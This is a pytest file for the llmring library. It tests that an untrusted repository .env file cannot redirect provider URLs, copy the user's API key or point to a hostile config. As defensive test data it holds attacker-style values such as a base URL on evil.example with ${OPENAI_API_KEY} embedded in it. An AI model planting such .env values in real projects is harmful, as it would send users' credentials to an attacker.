"""./.env is a file of a repository, which may be anybody's: what it may set, and what it cannot get hold of."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from llmring import LLMRing
from llmring.exceptions import ConfigurationError

OWN_URL = "https://api.openai.com/v1"


@pytest.mark.spec("A20")
@pytest.mark.parametrize(
    ("variables", "given", "key_in_file"),
    [
        ({"OPENAI_API_KEY": "sk-of-the-user"}, {}, ""),
        ({"OPENAI_API_KEY": "sk-of-the-user"}, {}, "OPENAI_API_KEY=theirs\n"),
        ({}, {"api_key": "sk-of-the-user"}, ""),
        ({}, {"api_key": "sk-of-the-user"}, "OPENAI_API_KEY=theirs\n"),
        ({}, {"extra_headers": {"X-Token": "sk-of-the-user"}}, "OPENAI_API_KEY=theirs\n"),
        ({"MINE": "sk-of-the-user"}, {"key_variable": "MINE"}, "OPENAI_API_KEY=theirs\n"),
    ],
)
async def test_a_base_url_of_the_dotenv_file_gets_no_key_from_elsewhere(
    clean_environment: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    variables: dict[str, str],
    given: dict[str, Any],
    key_in_file: str,
) -> None:
    (clean_environment / ".env").write_text(f"{key_in_file}OPENAI_BASE_URL=https://evil.example\n")
    for name, value in variables.items():
        monkeypatch.setenv(name, value)
    async with LLMRing(providers={"openai": given} if given else None) as ring:
        provider = ring.get_provider("openai")
        assert (provider.base_url, provider.base_url) == (OWN_URL, OWN_URL)
    assert [record.levelname for record in caplog.records] == ["WARNING"]
    assert "OPENAI_BASE_URL" in caplog.text
    assert "sk-of-the-user" not in caplog.text


@pytest.mark.spec("A20")
async def test_a_dotenv_file_may_say_where_its_own_key_and_no_key_go(
    clean_environment: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (clean_environment / ".env").write_text(
        "OPENAI_API_KEY=theirs\nOPENAI_BASE_URL=https://gateway.example\nOLLAMA_HOST=box\n"
        "ANTHROPIC_BASE_URL=https://keyless.example\n"
    )
    async with LLMRing() as ring:
        urls = [ring.get_provider(name).base_url for name in ("openai", "ollama", "anthropic")]
    assert urls == ["https://gateway.example/v1", "http://box:11434/api", "https://keyless.example/v1"]
    assert not caplog.records


@pytest.mark.spec("A20")
async def test_a_dotenv_file_cannot_copy_the_users_variables(
    clean_environment: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-of-the-user")
    (clean_environment / ".env").write_text(
        "GEMINI_API_KEY=${OPENAI_API_KEY}\nGOOGLE_GEMINI_BASE_URL=https://evil.example/${OPENAI_API_KEY}\n"
    )
    async with LLMRing() as ring:
        provider = ring.get_provider("google")
        assert "sk-of-the-user" not in f"{provider.headers()} {provider.base_url}"


@pytest.mark.spec("A20")
async def test_a_dotenv_file_names_no_config_file_and_no_lock(
    clean_environment: Path, caplog: pytest.LogCaptureFixture
) -> None:
    evil = clean_environment / "llmring" / "config.toml"
    evil.parent.mkdir()
    evil.write_text('[providers.openai]\nbase_url = "https://evil.example"\n')
    for line in (f"LLMRING_CONFIG={evil}", f"XDG_CONFIG_HOME={clean_environment}", "LLMRING_LOCKFILE_PATH=absent"):
        (clean_environment / ".env").write_text(f"{line}\n")
        caplog.clear()
        async with LLMRing() as ring:
            assert ring.get_provider("openai").base_url == OWN_URL
        assert line.partition("=")[0] in caplog.text


@pytest.mark.spec("A20")
async def test_a_dotenv_file_that_is_no_text_is_named(clean_environment: Path) -> None:
    (clean_environment / ".env").write_bytes("OPENAI_API_KEY=geheim-ü".encode("latin-1"))
    with pytest.raises(ConfigurationError, match=r"\.env.*UTF-8.*LLMRING_NO_DOTENV") as caught:
        LLMRing()
    assert "geheim" not in repr(caught.value.__context__)
    async with LLMRing(dotenv=False):
        pass
